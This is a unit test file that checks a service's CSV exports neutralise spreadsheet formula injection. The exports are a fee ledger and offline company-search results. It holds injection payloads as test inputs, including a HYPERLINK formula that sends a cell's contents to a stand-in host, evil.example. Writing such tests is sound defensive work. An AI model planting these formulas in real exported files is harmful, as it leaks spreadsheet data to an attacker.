/**
 * Every CSV the service writes uses one cell function (shared/kernel/csv.ts): the monitor list
 * (test/unit/monitoring/csv.test.ts), and the fee ledger the console exports and an e-mailed
 * offline search's matches, tested here.
 */
import { describe, expect, it } from 'vitest';
import { LEDGER_CSV_FIELDS, ledgerCsv } from '../../shared/console/client/ledger-csv.ts';
import { csvCell } from '../../shared/kernel/csv.ts';
import { offlineResultsCsv } from '../../shared/orders/results.ts';

const entry = (clientReference: unknown, quantity: unknown = 1) => ({
  at: '2026-11-28T01:02:03Z',
  product: 'company_extract',
  feeCode: '101',
  quantity,
  billable: false,
  clientReference,
  requestId: 'req_1',
  resourceId: 'ext_1',
  unitAmountCents: 2500,
  amountCents: 2500,
  currency: 'AUD',
  priceVersion: '2020-01-01',
});

/** The client reference cell of the ledger's one entry line. */
const referenceCell = (clientReference: unknown) => {
  const csv = ledgerCsv([entry(clientReference)]);
  const line = csv.split('\r\n')[1] as string;
  return line.slice(line.indexOf('false,') + 'false,'.length, line.lastIndexOf(',req_1,ext_1,'));
};

describe('a CSV cell', () => {
  it('writes numbers and booleans as they are: a negative number stays a number', () => {
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(3)).toBe('3');
    expect(csvCell(true)).toBe('true');
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell(null)).toBe('');
    expect(csvCell({ code: 'x' })).toBe('');
  });
});

describe('the fee ledger CSV of the console', () => {
  it('has a header, then an entry a line, CRLF-ended', () => {
    expect(ledgerCsv([entry('PO 7')])).toBe(
      `${LEDGER_CSV_FIELDS.join(',')}\r\n2026-11-28T01:02:03Z,company_extract,101,1,false,PO 7,req_1,ext_1,2500,2500,AUD,2020-01-01\r\n`,
    );
    expect(ledgerCsv([])).toBe(
      'at,product,feeCode,quantity,billable,clientReference,requestId,resourceId,unitAmountCents,amountCents,currency,priceVersion\r\n',
    );
  });

  it('neutralises a client reference a spreadsheet would take for a formula', () => {
    expect(referenceCell('=HYPERLINK("https://evil.example/?x="&A1,"Click")')).toBe(
      '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"',
    );
    expect(referenceCell('=1+2')).toBe("'=1+2");
    expect(referenceCell('+61 2 9000')).toBe("'+61 2 9000");
    expect(referenceCell('-Smith')).toBe("'-Smith");
    expect(referenceCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(referenceCell('\tcmd')).toBe("'\tcmd");
    expect(referenceCell('\rcmd')).toBe('"\'\rcmd"');
  });

  it('leaves other references alone, quoting only what RFC 4180 asks', () => {
    expect(referenceCell('a=b')).toBe('a=b');
    expect(referenceCell("O'Brien, PO 7")).toBe('"O\'Brien, PO 7"');
    expect(referenceCell(null)).toBe('');
  });

  it('writes a negative quantity as a number', () => {
    expect(ledgerCsv([entry(null, -1)]).split('\r\n')[1]).toBe(
      '2026-11-28T01:02:03Z,company_extract,101,-1,false,,req_1,ext_1,2500,2500,AUD,2020-01-01',
    );
  });
});

describe("an offline search's CSV", () => {
  it('writes codes of coded fields, and neutralises a name a spreadsheet would take for a formula', () => {
    const match = {
      acn: '990000149',
      formatted: '990 000 149',
      name: '=HYPERLINK("http://x","y")',
      matchedName: '@WIDGETS',
      nameStatus: 'current',
      score: 75,
      type: { code: 'APTY', label: 'Australian proprietary company' },
      status: { code: 'REGD', label: 'Registered' },
      abn: null,
    };
    expect(offlineResultsCsv([match]).split('\n')).toEqual([
      'acn,formatted,name,matchedName,nameStatus,score,type,status,abn',
      '990000149,990 000 149,"\'=HYPERLINK(""http://x"",""y"")",\'@WIDGETS,current,75,APTY,REGD,',
    ]);
  });
});
